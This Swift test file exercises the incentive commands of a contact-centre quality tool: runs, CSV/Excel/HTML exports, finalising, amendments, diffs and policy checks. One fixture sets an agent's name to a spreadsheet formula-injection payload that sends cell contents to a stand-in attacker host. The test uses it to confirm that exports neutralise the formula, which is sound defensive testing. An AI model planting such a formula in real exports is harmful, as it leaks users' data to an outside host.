import Foundation
import Testing
import YardstickTestSupport

/// HR's month through the real binary: feedback, a run, exports, finalising, an amendment and the diff.
struct IncentivesCommandsTests {
    let folder = TemporaryFolder()
    var yardstick: BinaryRunner { BinaryRunner(databasePath: folder.file("y.db")) }
    static let policy = ["--policy", "contact-centre-monthly"]

    func prepare() throws {
        #expect(try yardstick.run(["init"]).status == 0)
        #expect(try yardstick.run(["agents", "import", "examples/roster.csv"]).status == 0)
        let name = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click for bonus\")"
        #expect(try yardstick.run(["agents", "add", "A1099", "--name", name, "--team", "oslo-phone"]).status == 0)
        let answers = try folder.write("call.json", Answers.callReview)
        for agent in ["A1001", "A1001", "A1001", "A1099"] {
            #expect(try yardstick.run(["audit", "new", "--form", "call-review", "--agent", agent, "--answers", answers]).status == 0)
        }
        let feedback = try folder.write("feedback.csv", "external_id,agent,occurred_on,nps,csat,comment\nF1,A1001,2026-03-04,10,5,Lovely\nF2,A1001,2026-03-09,3,2,\n")
        let imported = try yardstick.run(["feedback", "import", feedback])
        #expect(imported.standardOutput == "Imported 2 responses; 0 unchanged (already stored); 0 rejected.\n", "\(imported.standardError)")
    }

    @Test func runsFinalisesExportsAndShowsWhatChangedAfterwards() throws {
        try prepare()
        let run = try yardstick.run(["incentives", "run"] + Self.policy + ["--period", "2026-03"])
        #expect(run.status == 0, "\(run.standardError)")
        #expect(run.standardOutput.contains("Incentive run #1: Contact centre monthly quality incentive (contact-centre-monthly 2026.1), period 2026-03"))
        #expect(run.standardOutput.contains("1 promoter review × +10.00; 1 detractor review × −10.00"), "\(run.standardOutput)")

        let first = folder.file("a.csv"), second = folder.file("b.csv")
        #expect(try yardstick.run(["incentives", "export", "1", "-o", first]).status == 0)
        #expect(try yardstick.run(["incentives", "export", "1", "--output", second]).status == 0)
        let bytes = try Data(contentsOf: URL(fileURLWithPath: first))
        #expect(bytes == (try Data(contentsOf: URL(fileURLWithPath: second))), "two exports of the same run are byte-identical")
        let csv = String(decoding: bytes, as: UTF8.self)
        #expect(csv.hasPrefix("agent,name,team,location,period,currency,eligible,audits,mean_score,ci_width,critical_failures,positive_reviews,negative_reviews,tier,tier_amount,events_amount,cap_applied,total,explanation\r\n"))
        #expect(csv.contains("A1099,\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1,\"\"Click for bonus\"\")\",oslo-phone"), "\(csv)")
        let excel = try yardstick.run(["incentives", "export", "1", "--excel"]).standardOutput
        #expect(excel.utf8.starts(with: [0xEF, 0xBB, 0xBF]) && excel.dropFirst() == Substring(csv))

        #expect(try yardstick.run(["incentives", "finalise", "1", "--reason", "March payroll"]).status == 0)
        let twice = try yardstick.run(["incentives", "finalise", "1", "--reason", "again"])
        #expect(twice.status == 1 && twice.standardError.contains("run 1 was already finalised"))

        let amended = try yardstick.run(["audit", "amend", "2", "--answer", "respect=no", "--comment", "respect=Blamed the customer", "--reason", "Dispute upheld"])
        #expect(amended.status == 0, "\(amended.standardError)")
        #expect(try yardstick.run(["incentives", "export", "1", "-o", second]).status == 0)
        #expect(try Data(contentsOf: URL(fileURLWithPath: first)) == (try Data(contentsOf: URL(fileURLWithPath: second))), "the finalised run exports as before")
        let diff = try yardstick.run(["incentives", "diff", "1"])
        #expect(diff.status == 0)
        #expect(diff.standardOutput.contains("Run #1 (contact-centre-monthly, 2026-03, finalised) compared with the audits and feedback stored now:"))
        #expect(diff.standardOutput.contains("  A1001 Kari Nordmann: "), "\(diff.standardOutput)")
        #expect(diff.standardOutput.contains("    · audit 2 changed: score 91.3 → 0.0 (critical failure)"), "\(diff.standardOutput)")
        #expect(diff.standardOutput.contains("1 agent would change"))

        let correction = try yardstick.run(["incentives", "run"] + Self.policy + ["--period", "2026-03"])
        #expect(correction.standardOutput.contains("a correction run: #1 is finalised for this period"))
        let listed = try yardstick.run(["incentives", "list"]).standardOutput
        #expect(listed.contains("correction of #1") && listed.contains("finalised"))
        let written = folder.file("c.csv")
        let third = try yardstick.run(["incentives", "run"] + Self.policy + ["--period", "2026-03", "-o", written])
        #expect(third.standardOutput == "Incentive run #3 (contact-centre-monthly, 2026-03, a correction run of finalised #1): 8 agents, 0 eligible, net 0.00 EUR; csv written to \(written).\n",
                "\(third.standardOutput)")
        #expect(try Data(contentsOf: URL(fileURLWithPath: written)) == Data(try yardstick.run(["incentives", "export", "3"]).standardOutput.utf8))
        #expect(try yardstick.run(["incentives", "run"] + Self.policy + ["--period", "2026-03", "--excel"]).status == 2, "--excel needs --output")
        let html = try yardstick.run(["incentives", "export", "2", "--format", "html"]).standardOutput
        #expect(html.hasPrefix("<!DOCTYPE html>") && !html.contains("<script") && !html.contains("src=") && html.contains("correction of finalised run #1"))
        #expect(try yardstick.run(["verify"]).status == 0)
    }

    @Test func badRequestsAreUsageErrorsNamingTheAcceptedForms() throws {
        try prepare()
        let malformed = try yardstick.run(["incentives", "run"] + Self.policy + ["--period", "March"])
        #expect(malformed.status == 2)
        #expect(malformed.standardError.contains("'March' is not a pay period; use YYYY-MM for a month (e.g. 2026-10) or YYYY-Qn for a quarter (e.g. 2026-Q4)"))
        let quarter = try yardstick.run(["incentives", "run"] + Self.policy + ["--period", "2026-Q1"])
        #expect(quarter.status == 2 && quarter.standardError.contains("policy 'contact-centre-monthly' pays per month, but 2026-Q1 is a quarter"))
        let unknown = try yardstick.run(["incentives", "run", "--policy", "bonus", "--period", "2026-03"])
        #expect(unknown.status == 2 && unknown.standardError.contains("no registered incentive policy 'bonus'; registered: contact-centre-monthly"))
        let missing = try yardstick.run(["incentives", "show", "9"])
        #expect(missing.status == 1 && missing.standardError.contains("no incentive run 9; see 'yardstick incentives list'"))
        #expect(try yardstick.run(["incentives", "show", "x9"]).status == 2, "not a run number at all")
        #expect(try yardstick.run(["incentives", "list"]).standardOutput.hasPrefix("No incentive runs yet"))
    }

    @Test func aRunWhoseFileCannotBeWrittenIsNotStoredAndRunsOfOtherPeriodsAreNotCompared() throws {
        try prepare()
        let failed = try yardstick.run(["incentives", "run"] + Self.policy + ["--period", "2026-03", "-o", folder.file("missing/dir/x.csv")])
        #expect(failed.status == 1 && failed.standardError.contains("cannot write"))
        #expect(try yardstick.run(["incentives", "list"]).standardOutput.hasPrefix("No incentive runs yet"), "the run was rolled back with the file")
        #expect(try yardstick.run(["incentives", "run"] + Self.policy + ["--period", "2026-03"]).status == 0)
        #expect(try yardstick.run(["incentives", "run"] + Self.policy + ["--period", "2026-02"]).status == 0)
        let across = try yardstick.run(["incentives", "diff", "1", "2"])
        #expect(across.status == 1 && across.standardError.contains("compares runs of the same policy and period"), "\(across.standardError)")
        let rejected = try yardstick.run(["feedback", "import", try folder.write("all-bad.csv", "agent,occurred_on,nps\nNOBODY,2026-03-02,9\n"), "--skip-invalid"])
        #expect(rejected.status == 1 && rejected.standardOutput.contains("Imported 0 responses; 0 unchanged (already stored); 1 rejected."))
    }

    @Test func checkRefusesAmountsBeyondAnyPayRuleAndNamesARepeatedTeamWhereItStands() throws {
        let policy = try folder.write("incentives-big.xml", """
            <?xml version="1.0" encoding="UTF-8"?>
            <incentive-policy format="1" id="big" version="1" title="Big" currency="EUR" period="month" informed-on="2026-01-05">
              <scope>
                <team id="oslo-phone"/>
                <team id="oslo-phone"/>
              </scope>
              <eligibility label="Three" min-audits="3"/>
              <tiers>
                <bonus label="Strong" min-score="90" amount="100"/>
              </tiers>
              <events>
                <positive-review label="Promoter" measure="nps" at-least="9" amount="999999999999999"/>
              </events>
            </incentive-policy>

            """)
        let result = try yardstick.run(["check", policy])
        #expect(result.status == 1)
        #expect(result.standardError.contains("incentives-big.xml:5:11: error: duplicate team in the scope 'oslo-phone' (first defined at line 4)"), "\(result.standardError)")
        #expect(result.standardError.contains("incentives-big.xml:12:66: error: the amount 999999999999999.00 is larger than a pay rule can be (at most 1000000000 in either direction)"),
                "\(result.standardError)")
    }

    @Test func checkNamesNegativeCapsAndOverlappingTiersWithTheirLocation() throws {
        let policy = try folder.write("incentives-bad.xml", """
            <?xml version="1.0" encoding="UTF-8"?>
            <incentive-policy format="1" id="bad" version="1" title="Bad" currency="EUR" period="month" informed-on="2026-01-05">
              <eligibility label="Three" min-audits="3"/>
              <tiers>
                <bonus label="Strong" min-score="80" amount="100"/>
                <penalty label="Low" below="85" amount="-100"/>
              </tiers>
              <caps label="Caps" max-bonus="-5" max-penalty="200"/>
            </incentive-policy>

            """)
        let result = try yardstick.run(["check", policy])
        #expect(result.status == 1)
        #expect(result.standardError.contains("incentives-bad.xml:6:26: error: penalty tier 'Low' (below 85) overlaps bonus tier 'Strong' (from 80)"), "\(result.standardError)")
        #expect(result.standardError.contains("incentives-bad.xml:8:22: error: max-bonus is a limit and must not be negative"), "\(result.standardError)")
    }

    @Test func feedbackSummaryCountsPromotersAndDetractors() throws {
        try prepare()
        let summary = try yardstick.run(["feedback", "summary", "--period", "2026-03", "--json"])
        let object = try JSONSerialization.jsonObject(with: Data(summary.standardOutput.utf8)) as? [String: Any]
        let groups = object?["groups"] as? [[String: Any]] ?? []
        #expect(groups.first?["group"] as? String == "A1001" && groups.first?["nps"] as? Double == 0 && groups.first?["promoters"] as? Int == 1)
        let bad = try yardstick.run(["feedback", "import", try folder.write("bad.csv", "agent,occurred_on,nps\nA1001,2026-03-02,12\n")])
        #expect(bad.status == 1 && bad.standardError.contains("bad.csv:2:3: error: column 'nps': '12' is not a whole number from 0 to 10"))
    }
}
